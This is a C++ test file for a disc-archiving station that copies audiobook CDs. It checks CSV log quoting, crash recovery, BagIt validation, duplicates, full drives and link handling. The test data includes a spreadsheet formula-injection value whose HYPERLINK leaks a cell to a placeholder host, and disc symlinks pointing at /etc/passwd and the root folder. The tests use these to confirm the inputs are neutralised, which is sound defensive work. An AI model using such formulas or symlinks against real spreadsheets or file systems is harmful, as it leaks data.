// The station: its log's rows, and batches through simulated drives (the
// sample book in folders): a good book, an incomplete one, a refused one, a
// duplicate, and a run killed halfway and started again.
#include "station/Station.h"

#include "copy/CopyEngine.h"
#include "station/Bag.h"
#include "support/TableCases.h"
#include "support/TempDir.h"

#include <gtest/gtest.h>

#include <csignal>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <thread>
#include <utility>
#include <unistd.h>

using namespace station;
namespace fs = std::filesystem;

namespace {

struct FieldCase
{
    const char* name;
    std::string text;
    std::string field;
};
PRINT_CASE_AS(FieldCase, name)

class CsvFields : public testing::TestWithParam<FieldCase>
{};

TEST_P(CsvFields, AreQuotedOnlyWhereRfc4180AsksIt)
{
    EXPECT_EQ(GetParam().field, CsvField(GetParam().text));
}

INSTANTIATE_TEST_SUITE_P(Log, CsvFields,
                         testing::Values(FieldCase{"plain", "Zo\xC3\xAB", "Zo\xC3\xAB"},
                                         FieldCase{"comma", "Tol, Jan", "\"Tol, Jan\""},
                                         FieldCase{"quote", "Het \"boek\"", "\"Het \"\"boek\"\"\""},
                                         FieldCase{"line_break", "a\nb", "\"a\nb\""},
                                         FieldCase{"empty", "", ""},
                                         FieldCase{"hyperlink", "=HYPERLINK(\"http://x?y=\"&A1,\"klik\")",
                                                   "\"'=HYPERLINK(\"\"http://x?y=\"\"&A1,\"\"klik\"\")\""},
                                         FieldCase{"sum", "=1+1", "'=1+1"},
                                         FieldCase{"plus", "+31 20", "'+31 20"},
                                         FieldCase{"minus", "-2", "'-2"},
                                         FieldCase{"at", "@SUM(A1)", "'@SUM(A1)"},
                                         FieldCase{"tab", "\t=1", "'\t=1"},
                                         FieldCase{"carriage_return", "\r=1", "\"'\r=1\""},
                                         FieldCase{"inner_equals", "a=1", "a=1"}),
                         CaseName());

std::string ReadAll(const std::string& path)
{
    std::ifstream in(path, std::ios::binary);
    std::ostringstream text;
    text << in.rdbuf();
    return text.str();
}

std::vector<std::string> Lines(const std::string& text)
{
    std::vector<std::string> lines;
    for (std::size_t start = 0, end; (end = text.find("\r\n", start)) != std::string::npos; start = end + 2)
        lines.push_back(text.substr(start, end - start));
    return lines;
}

TEST(Log, StartsWithMarkAndHeaderOnceAndCutsAHalfRowLeftByAPowerLoss)
{
    CTempDir dir;
    const std::string path = dir / kLogName;
    LogRow row;
    row.title = "Het boek";
    row.message = "eerste regel\ntweede regel";
    ASSERT_EQ(0, AppendRow(path, row));
    {
        std::ofstream(path, std::ios::app | std::ios::binary) << "2024-01-01,/cd,half";
    }
    ASSERT_EQ(0, AppendRow(path, row));
    const std::string text = ReadAll(path);
    EXPECT_EQ(0u, text.rfind("\xEF\xBB\xBF" + CsvHeader(), 0));
    EXPECT_EQ(3u, Lines(text).size());
    EXPECT_EQ(text.size(), text.rfind("\r\n") + 2);
    EXPECT_EQ(std::string::npos, text.find("half"));
    EXPECT_NE(std::string::npos, text.find("eerste regel tweede regel"));
}

void MakeBook(const std::string& folder, const std::string& options = "")
{
    const std::string command =
        "python3 " TALVORA_SOURCE_DIR "/sample/make_sample_book.py " + folder + " " + options + " >/dev/null";
    ASSERT_EQ(0, std::system(command.c_str()));
}

class CFolderDrives final : public IDriveList
{
public:
    std::vector<Drive> drives;
    std::vector<std::string> ejected;
    std::mutex mutex;
    std::vector<Drive> Drives() override { return drives; }
    void Eject(const Drive& drive) override
    {
        std::lock_guard<std::mutex> lock(mutex);
        ejected.push_back(drive.name);
    }
};

class CRows final : public IStationEvents
{
public:
    std::mutex mutex;
    std::vector<LogRow> rows;
    void DriveChanged(const Drive&, DriveState) override {}
    void BookDone(const LogRow& row) override
    {
        std::lock_guard<std::mutex> lock(mutex);
        rows.push_back(row);
    }
};

StationSetup OutputSetup(const CTempDir& dir)
{
    StationSetup setup;
    setup.outputDir = dir / "uit/";
    fs::create_directories(setup.outputDir);
    return setup;
}

std::multiset<std::string> Outcomes(const std::vector<LogRow>& rows)
{
    std::multiset<std::string> words;
    for (const LogRow& row : rows)
        words.insert(OutcomeWord(row.outcome));
    return words;
}

TEST(Batch, GoodIncompleteRefusedAndDuplicateEachGetTheirRowAndAreEjected)
{
    CTempDir dir;
    MakeBook(dir / "cd1");
    MakeBook(dir / "cd2", "--id other-2 --title Onvolledig --creator Tol");
    // A file the engine refuses to read, as a damaged sector would be.
    ASSERT_EQ(0, ::mkfifo((dir / "cd2/kapot.mp3").c_str(), 0644));
    dir.Write("cd3/ncc.html", "<html><body>geen boek</body>");
    MakeBook(dir / "cd4");
    CFolderDrives drives;
    for (const char* name : {"cd1", "cd2", "cd3", "cd4"})
        drives.drives.push_back({dir / (std::string(name) + "/"), name});
    CRows events;
    CStation station(OutputSetup(dir), drives, events);
    station.RunOnce();

    EXPECT_EQ((std::multiset<std::string>{"al aanwezig", "geweigerd", "gekopieerd", "onvolledig"}),
              Outcomes(events.rows));
    EXPECT_EQ(4u, drives.ejected.size());
    EXPECT_EQ(1, station.ExitStatus());
    const std::vector<std::string> lines = Lines(ReadAll(dir / "uit/talvora-archief.csv"));
    EXPECT_EQ(5u, lines.size());
    for (const LogRow& row : events.rows) {
        if (row.outcome == Outcome::Incomplete) {
            EXPECT_EQ("other-2 - Onvolledig - Tol (onvolledig)", row.folder);
            EXPECT_TRUE(fs::is_directory(dir / ("uit/" + row.folder)));
        }
    }
}

// Two books of one disc that would get one folder are planned as the copy
// window plans them: the second would mix into the first, and is refused.
TEST(Batch, TheSecondBookOfADiscWithTheSameFolderIsRefused)
{
    CTempDir dir;
    MakeBook(dir / "cd/a");
    MakeBook(dir / "cd/b");
    dir.Write("cd/discinfo.html", "<html><head><title>Schijf</title></head><body>"
                                  "<p><a href=\"a/ncc.html\">a</a></p><p><a href=\"b/ncc.html\">b</a></p></body></html>");
    CFolderDrives drives;
    drives.drives.push_back({dir / "cd/", "cd"});
    CRows events;
    CStation station(OutputSetup(dir), drives, events);
    station.RunOnce();

    ASSERT_EQ(2u, events.rows.size());
    EXPECT_EQ(Outcome::Copied, events.rows[0].outcome) << events.rows[0].message;
    EXPECT_EQ(Outcome::Refused, events.rows[1].outcome);
    EXPECT_NE(std::string::npos, events.rows[1].message.find("dezelfde map")) << events.rows[1].message;
    EXPECT_FALSE(events.rows[1].title.empty()) << "the row still names the book";
}

TEST(Batch, AKilledRunLeavesNoHalfBookAndTheRestartCopiesIt)
{
    CTempDir dir;
    MakeBook(dir / "cd1", "--extra-mb 4");
    const StationSetup setup = OutputSetup(dir);
    const pid_t child = ::fork();
    ASSERT_GE(child, 0);
    if (child == 0) {
        // Slow enough to be killed in the middle of the book.
        StationSetup slow = setup;
        slow.makePace = [] { return [](std::size_t) { ::usleep(20000); }; };
        CNameReservations names;
        std::atomic<bool> cancel{false};
        ArchiveDisc(dir / "cd1/", "cd1", slow, names, cancel, nullptr);
        ::_exit(0);
    }
    bool working = false;
    for (int i = 0; i < 500 && !working; ++i, ::usleep(10000))
        for (const auto& entry : fs::directory_iterator(setup.outputDir))
            working = working || entry.path().filename().string().rfind(".talvora-", 0) == 0;
    ::usleep(100000);
    ::kill(child, SIGKILL);
    ::waitpid(child, nullptr, 0);
    ASSERT_TRUE(working);

    CFolderDrives drives;
    drives.drives.push_back({dir / "cd1/", "cd1"});
    CRows events;
    CStation station(setup, drives, events);
    station.RunOnce();
    ASSERT_EQ(1u, events.rows.size());
    EXPECT_EQ(Outcome::Copied, events.rows[0].outcome) << events.rows[0].message;
    std::set<std::string> left;
    for (const auto& entry : fs::directory_iterator(setup.outputDir))
        left.insert(entry.path().filename().string());
    EXPECT_EQ((std::set<std::string>{events.rows[0].folder, events.rows[0].folder + ".sha256", kLogName}), left);
}

// A validator of the bag as RFC 8493 has it: what it finds wrong, "" when
// nothing is.
std::string ValidateBag(const fs::path& bag)
{
    if (ReadAll(bag / "bagit.txt") != "BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n")
        return "bagit.txt";
    std::map<std::string, std::string> listed;
    std::istringstream manifest(ReadAll(bag / "manifest-sha256.txt"));
    for (std::string line; std::getline(manifest, line);)
        listed[line.substr(66)] = line.substr(0, 64);
    std::uint64_t bytes = 0, files = 0;
    for (const auto& entry : fs::recursive_directory_iterator(bag / "data")) {
        if (!entry.is_regular_file())
            continue;
        const std::string rel = fs::relative(entry.path(), bag).string();
        if (listed[rel] != Sha256Hex(ReadAll(entry.path())))
            return "manifest: " + rel;
        bytes += entry.file_size();
        ++files;
    }
    if (listed.size() != files)
        return "manifest lists files that are not there";
    const std::string info = ReadAll(bag / "bag-info.txt");
    if (info.find("Payload-Oxum: " + std::to_string(bytes) + "." + std::to_string(files) + "\n") == std::string::npos)
        return "Payload-Oxum";
    std::istringstream tags(ReadAll(bag / "tagmanifest-sha256.txt"));
    for (std::string line; std::getline(tags, line);)
        if (Sha256Hex(ReadAll(bag / line.substr(66))) != line.substr(0, 64))
            return "tagmanifest: " + line.substr(66);
    return {};
}

TEST(Bag, IsWholeByAValidatorAndTheSameDiscAgainIsAlreadyThere)
{
    CTempDir dir;
    MakeBook(dir / "cd1", "--extra-mb 1");
    StationSetup setup = OutputSetup(dir);
    setup.bagit = true;
    CNameReservations names;
    std::atomic<bool> cancel{false};
    const std::vector<LogRow> first = ArchiveDisc(dir / "cd1/", "cd1", setup, names, cancel, nullptr);
    ASSERT_EQ(1u, first.size());
    ASSERT_EQ(Outcome::Copied, first[0].outcome) << first[0].message;
    const fs::path bag = fs::path(setup.outputDir) / first[0].folder;
    EXPECT_EQ("", ValidateBag(bag));
    EXPECT_NE(std::string::npos, ReadAll(bag / "bag-info.txt").find("External-Identifier: " + first[0].identifier));

    const std::vector<LogRow> again = ArchiveDisc(dir / "cd1/", "cd1", setup, names, cancel, nullptr);
    EXPECT_EQ(Outcome::AlreadyThere, again.at(0).outcome);
    EXPECT_EQ(first[0].folder, again.at(0).folder);
}

// Overwrites a stretch of a file with zeros, its size unchanged: another
// edition's audio, or an archive's file gone bad.
void Spoil(const fs::path& file)
{
    std::fstream f(file, std::ios::in | std::ios::out | std::ios::binary);
    f.seekp(100);
    f << std::string(1000, '\0');
}

LogRow ArchiveOnce(const fs::path& disc, const StationSetup& setup)
{
    CNameReservations names;
    std::atomic<bool> cancel{false};
    return ArchiveDisc(disc.string() + "/", "cd", setup, names, cancel, nullptr).at(0);
}

std::set<std::string> Names(const fs::path& folder)
{
    std::set<std::string> names;
    for (const auto& entry : fs::directory_iterator(folder))
        names.insert(entry.path().filename().string());
    return names;
}

struct OutcomeCase
{
    const char* name;
    bool bagit;
    std::string bookOptions;
    // Prepares the disc and the output folder (which exists, unless the
    // case removes it); may archive the disc a first time.
    std::function<void(const fs::path& disc, StationSetup& setup)> before;
    Outcome outcome;
    std::function<void(const fs::path& disc, const fs::path& out, const LogRow& row)> after;
    // The output folder on a file system of this size of its own ("": none).
    std::string drive = {};
};
PRINT_CASE_AS(OutcomeCase, name)

class StationOutcomes : public testing::TestWithParam<OutcomeCase>
{};

TEST_P(StationOutcomes, AreWhatTheBytesProve)
{
    const OutcomeCase& c = GetParam();
    CTempDir dir;
    const fs::path disc = dir / "cd";
    MakeBook(disc, c.bookOptions);
    StationSetup setup = OutputSetup(dir);
    setup.bagit = c.bagit;
    struct CDrive
    {
        std::string at;
        ~CDrive()
        {
            if (!at.empty())
                ::umount2(at.c_str(), MNT_DETACH);
        }
    } drive;
    if (!c.drive.empty()) {
        if (::mount("tmpfs", setup.outputDir.c_str(), "tmpfs", 0, ("size=" + c.drive).c_str()) != 0)
            GTEST_SKIP() << "a small drive needs mount(2)";
        drive.at = setup.outputDir;
    }
    if (c.before)
        c.before(disc, setup);
    CFolderDrives drives;
    drives.drives.push_back({disc.string() + "/", "cd"});
    CRows events;
    CStation station(setup, drives, events);
    station.RunOnce();
    ASSERT_EQ(1u, events.rows.size());
    const LogRow& row = events.rows[0];
    EXPECT_EQ(OutcomeWord(c.outcome), std::string(OutcomeWord(row.outcome))) << row.message;
    const fs::path out = setup.outputDir;
    const std::vector<std::string> lines = Lines(ReadAll(out / kLogName));
    ASSERT_FALSE(lines.empty());
    EXPECT_NE(std::string::npos, lines.back().find(std::string(",") + OutcomeWord(c.outcome) + ","));
    if (!row.folder.empty() && fs::exists(out / row.folder / "bagit.txt")) {
        EXPECT_EQ("", ValidateBag(out / row.folder));
    }
    // Nothing of the program's own stays in the archive, and no link.
    for (const auto& entry : fs::recursive_directory_iterator(out)) {
        const std::string name = entry.path().filename().string();
        EXPECT_FALSE(entry.is_symlink()) << entry.path();
        EXPECT_NE(0u, name.rfind(".talvora-werkmap", 0)) << entry.path();
    }
    if (c.after)
        c.after(disc, out, row);
}

const std::string kBook = "TV-2026-0042 - Het raadsel van de blauwe sluis - Hoogmeer, Tjitske";

// A file the engine refuses to read, as a damaged sector would be.
void Unreadable(const fs::path& disc, const StationSetup&)
{
    ASSERT_EQ(0, ::mkfifo((disc / "kapot.mp3").c_str(), 0644));
}

// A link to a file of the book, and links that lead out of it.
void Links(const fs::path& disc, const StationSetup&)
{
    fs::create_symlink("aud0001.wav", disc / "kopie.wav");
    fs::create_symlink("/etc/passwd", disc / "wachtwoord");
    fs::create_symlink("/", disc / "wortel");
}

INSTANTIATE_TEST_SUITE_P(
    Station, StationOutcomes,
    testing::Values(
        OutcomeCase{"same_edition", false, "", [](const fs::path& disc, const StationSetup& setup) {
                        ASSERT_EQ(Outcome::Copied, ArchiveOnce(disc, setup).outcome);
                    },
                    Outcome::AlreadyThere,
                    [](const fs::path&, const fs::path& out, const LogRow& row) {
                        EXPECT_EQ(kBook, row.folder);
                        EXPECT_EQ((std::set<std::string>{kBook, kBook + ".sha256", kLogName}), Names(out));
                    }},
        OutcomeCase{"other_edition", false, "", [](const fs::path& disc, const StationSetup& setup) {
                        ASSERT_EQ(Outcome::Copied, ArchiveOnce(disc, setup).outcome);
                        Spoil(disc / "aud0002.wav");
                    },
                    Outcome::Copied,
                    [](const fs::path& disc, const fs::path& out, const LogRow& row) {
                        EXPECT_EQ(kBook + "_001", row.folder);
                        EXPECT_NE(std::string::npos, row.message.find("andere uitgave")) << row.message;
                        EXPECT_EQ(ReadAll(disc / "aud0002.wav"), ReadAll(out / row.folder / "aud0002.wav"));
                        EXPECT_NE(ReadAll(disc / "aud0002.wav"), ReadAll(out / kBook / "aud0002.wav"));
                    }},
        OutcomeCase{"damaged_archive", false, "", [](const fs::path& disc, const StationSetup& setup) {
                        ASSERT_EQ(Outcome::Copied, ArchiveOnce(disc, setup).outcome);
                        Spoil(fs::path(setup.outputDir) / kBook / "aud0003.wav");
                    },
                    Outcome::ArchiveDamaged,
                    [](const fs::path& disc, const fs::path& out, const LogRow& row) {
                        EXPECT_EQ(kBook, row.folder);
                        EXPECT_NE(std::string::npos, row.message.find("aud0003.wav")) << row.message;
                        EXPECT_EQ(ReadAll(disc / "aud0003.wav"), ReadAll(out / kBook / "aud0003.wav"));
                        EXPECT_EQ((std::set<std::string>{kBook, kBook + ".sha256", kLogName}), Names(out));
                    }},
        OutcomeCase{"damaged_bag", true, "", [](const fs::path& disc, const StationSetup& setup) {
                        ASSERT_EQ(Outcome::Copied, ArchiveOnce(disc, setup).outcome);
                        Spoil(fs::path(setup.outputDir) / kBook / "data/aud0001.wav");
                    },
                    Outcome::ArchiveDamaged,
                    [](const fs::path&, const fs::path& out, const LogRow& row) {
                        EXPECT_EQ(kBook, row.folder);
                        EXPECT_EQ((std::set<std::string>{kBook, kLogName}), Names(out));
                    }},
        OutcomeCase{"hostile_title", false, "--title =1+1", nullptr, Outcome::Copied,
                    [](const fs::path&, const fs::path& out, const LogRow&) {
                        EXPECT_NE(std::string::npos, ReadAll(out / kLogName).find(",'=1+1,"));
                    }},
        OutcomeCase{"incomplete_bag", true, "", Unreadable, Outcome::Incomplete,
                    [](const fs::path&, const fs::path& out, const LogRow& row) {
                        EXPECT_EQ(kBook + " (onvolledig)", row.folder);
                        EXPECT_EQ("kapot.mp3\n", ReadAll(out / row.folder / "talvora-ontbreekt.txt"));
                        EXPECT_TRUE(fs::exists(out / row.folder / "data/aud0001.wav"));
                        EXPECT_FALSE(fs::exists(out / row.folder / "data/.talvora-onvolledig"));
                    }},
        OutcomeCase{"incomplete_bag_twice", true, "",
                    [](const fs::path& disc, const StationSetup& setup) {
                        Unreadable(disc, setup);
                        ASSERT_EQ(Outcome::Incomplete, ArchiveOnce(disc, setup).outcome);
                    },
                    Outcome::Incomplete,
                    [](const fs::path&, const fs::path&, const LogRow& row) {
                        EXPECT_EQ(kBook + " (onvolledig)_001", row.folder);
                    }},
        OutcomeCase{"incomplete_bag_long_title", true, "--title " + std::string(240, 'x'), Unreadable,
                    Outcome::Incomplete,
                    [](const fs::path&, const fs::path& out, const LogRow& row) {
                        EXPECT_TRUE(fs::is_directory(out / row.folder)) << row.message;
                        EXPECT_NE(std::string::npos, row.folder.find(" (onvolledig)"));
                    }},
        OutcomeCase{"bag_of_a_disc_with_its_own_defect", true, "--fault missing-audio", nullptr, Outcome::Copied,
                    [](const fs::path&, const fs::path& out, const LogRow& row) {
                        EXPECT_EQ(kBook, row.folder);
                        EXPECT_NE(std::string::npos,
                                  ReadAll(out / row.folder / "bag-info.txt").find("Talvora-Gebrek-Op-CD: "));
                        EXPECT_FALSE(row.message.empty());
                    }},
        OutcomeCase{"bag_into_a_new_folder", true, "",
                    [](const fs::path&, const StationSetup& setup) { fs::remove_all(setup.outputDir); },
                    Outcome::Copied,
                    [](const fs::path&, const fs::path& out, const LogRow& row) {
                        // Readable as a plain copy: made as the output folder was.
                        EXPECT_EQ(fs::status(out).permissions(), fs::status(out / row.folder).permissions());
                        EXPECT_EQ((std::set<std::string>{"bag-info.txt", "bagit.txt", "data", "manifest-sha256.txt",
                                                         "tagmanifest-sha256.txt"}),
                                  Names(out / row.folder));
                    }},
        OutcomeCase{"bag_with_a_name_that_is_no_utf8", true, "",
                    [](const fs::path& disc, const StationSetup&) {
                        std::ofstream(disc / "naam\xff.txt") << "x";
                    },
                    Outcome::Copied,
                    [](const fs::path&, const fs::path& out, const LogRow& row) {
                        EXPECT_FALSE(fs::exists(out / row.folder / "bagit.txt"));
                        EXPECT_NE(std::string::npos, row.message.find("UTF-8")) << row.message;
                        EXPECT_TRUE(fs::exists(out / (row.folder + ".sha256")));
                    }},
        OutcomeCase{"links_on_the_disc", false, "", Links, Outcome::Copied,
                    [](const fs::path& disc, const fs::path& out, const LogRow& row) {
                        EXPECT_EQ(ReadAll(disc / "aud0001.wav"), ReadAll(out / row.folder / "kopie.wav"));
                        EXPECT_FALSE(fs::exists(fs::symlink_status(out / row.folder / "wachtwoord")));
                        EXPECT_FALSE(fs::exists(fs::symlink_status(out / row.folder / "wortel")));
                        EXPECT_NE(std::string::npos, row.message.find("weggelaten")) << row.message;
                    }},
        OutcomeCase{"links_on_the_disc_again", false, "",
                    [](const fs::path& disc, const StationSetup& setup) {
                        Links(disc, setup);
                        ASSERT_EQ(Outcome::Copied, ArchiveOnce(disc, setup).outcome);
                    },
                    Outcome::AlreadyThere, nullptr},
        OutcomeCase{"links_in_a_bag", true, "", Links, Outcome::Copied,
                    [](const fs::path&, const fs::path& out, const LogRow& row) {
                        EXPECT_NE(std::string::npos, ReadAll(out / row.folder / "bag-info.txt")
                                                         .find("Talvora-Koppeling-Weggelaten: wachtwoord"));
                    }},
        OutcomeCase{"fifo_as_the_note_of_an_incomplete_copy", false, "",
                    [](const fs::path& disc, const StationSetup& setup) {
                        Unreadable(disc, setup);
                        ASSERT_EQ(Outcome::Incomplete, ArchiveOnce(disc, setup).outcome);
                        const fs::path note = fs::path(setup.outputDir) / (kBook + " (onvolledig)/.talvora-onvolledig");
                        fs::remove(note);
                        ASSERT_EQ(0, ::mkfifo(note.c_str(), 0644));
                    },
                    Outcome::Incomplete, nullptr},
        OutcomeCase{"incomplete_copy_completed_keeps_one_manifest", false, "",
                    [](const fs::path& disc, const StationSetup& setup) {
                        Unreadable(disc, setup);
                        ASSERT_EQ(Outcome::Incomplete, ArchiveOnce(disc, setup).outcome);
                        fs::remove(disc / "kapot.mp3");
                        std::ofstream(disc / "kapot.mp3") << "nu leesbaar";
                    },
                    Outcome::Copied,
                    [](const fs::path&, const fs::path& out, const LogRow& row) {
                        EXPECT_EQ(kBook, row.folder);
                        EXPECT_EQ((std::set<std::string>{kBook, kBook + ".sha256", kLogName}), Names(out));
                        std::map<std::string, std::string> listed;
                        ASSERT_TRUE(ReadManifest(out / (kBook + ".sha256"), "", listed));
                        EXPECT_EQ(8u, listed.size());
                        EXPECT_EQ(Sha256Hex("nu leesbaar"), listed["kapot.mp3"]);
                        EXPECT_EQ(Sha256Hex(ReadAll(out / kBook / "aud0001.wav")), listed["aud0001.wav"]);
                    }},
        OutcomeCase{"drive_too_full_to_start", false, "", nullptr, Outcome::Refused,
                    [](const fs::path&, const fs::path& out, const LogRow& row) {
                        EXPECT_NE(std::string::npos, row.message.find("past niet op de schijf")) << row.message;
                        EXPECT_NE(std::string::npos, row.message.find(" MB")) << row.message;
                        EXPECT_EQ((std::set<std::string>{kLogName}), Names(out));
                    },
                    "48k"},
        OutcomeCase{"drive_full_midway", false, "",
                    [](const fs::path&, StationSetup& setup) {
                        // Something else fills the drive once the copy has
                        // begun, leaving room for the log only.
                        const std::string filler = setup.outputDir + "vuller";
                        setup.makePace = [filler] {
                            return [filler, filled = false](std::size_t) mutable {
                                if (std::exchange(filled, true))
                                    return;
                                {
                                    std::ofstream out(filler, std::ios::binary);
                                    const std::string block(4096, 'v');
                                    while (out.write(block.data(), block.size()))
                                        ;
                                }
                                fs::resize_file(filler, fs::file_size(filler) > 16384 ? fs::file_size(filler) - 16384 : 0);
                            };
                        };
                    },
                    Outcome::Failed,
                    [](const fs::path&, const fs::path& out, const LogRow& row) {
                        EXPECT_NE(std::string::npos, row.message.find("raakte vol")) << row.message;
                        EXPECT_EQ(std::string::npos, row.message.find("gelezen")) << row.message;
                        EXPECT_EQ((std::set<std::string>{kLogName, "vuller"}), Names(out));
                    },
                    "1m"}),
    CaseName());

// A drive that claims a file system for the read-back.
class CClaimedDrive final : public CHashingEngine
{
public:
    CClaimedDrive(const std::string& root, DiscPace pace, copy::DriveFileSystem kind)
        : CHashingEngine(root, std::move(pace)), m_kind(kind)
    {
    }

protected:
    copy::DriveFileSystem FileSystemOf(int, std::string& mountType) override
    {
        mountType = m_kind == copy::DriveFileSystem::Fuse ? "fuseblk" : "ext4";
        return m_kind;
    }

private:
    copy::DriveFileSystem m_kind;
};

struct ReadBackLogCase
{
    const char* name;
    copy::DriveFileSystem kind;
    std::string message;
};
PRINT_CASE_AS(ReadBackLogCase, name)

class ReadBackLog : public testing::TestWithParam<ReadBackLogCase>
{};

TEST_P(ReadBackLog, SaysWhereTheCopyCouldNotBeReadBackFromTheDrive)
{
    CTempDir dir;
    MakeBook(dir / "cd1");
    StationSetup setup = OutputSetup(dir);
    setup.settings.VerifyCopy = 1;
    const copy::DriveFileSystem kind = GetParam().kind;
    setup.makeEngine = [kind](const std::string& root, DiscPace pace) -> std::unique_ptr<CHashingEngine> {
        return std::make_unique<CClaimedDrive>(root, std::move(pace), kind);
    };
    CNameReservations names;
    std::atomic<bool> cancel{false};
    const std::vector<LogRow> rows = ArchiveDisc(dir / "cd1/", "cd1", setup, names, cancel, nullptr);
    ASSERT_EQ(1u, rows.size());
    EXPECT_EQ(Outcome::Copied, rows[0].outcome);
    EXPECT_EQ(rows[0].message.rfind(GetParam().message, 0), 0u) << rows[0].message;
    EXPECT_EQ(rows[0].message.empty(), GetParam().message.empty()) << rows[0].message;
}

INSTANTIATE_TEST_SUITE_P(
    Station, ReadBackLog,
    testing::Values(ReadBackLogCase{"KernelDrive", copy::DriveFileSystem::Kernel, ""},
                    ReadBackLogCase{"FuseDrive", copy::DriveFileSystem::Fuse,
                                    "De kopie kon niet van de stick zelf worden teruggelezen."}),
    CaseName());

} // namespace
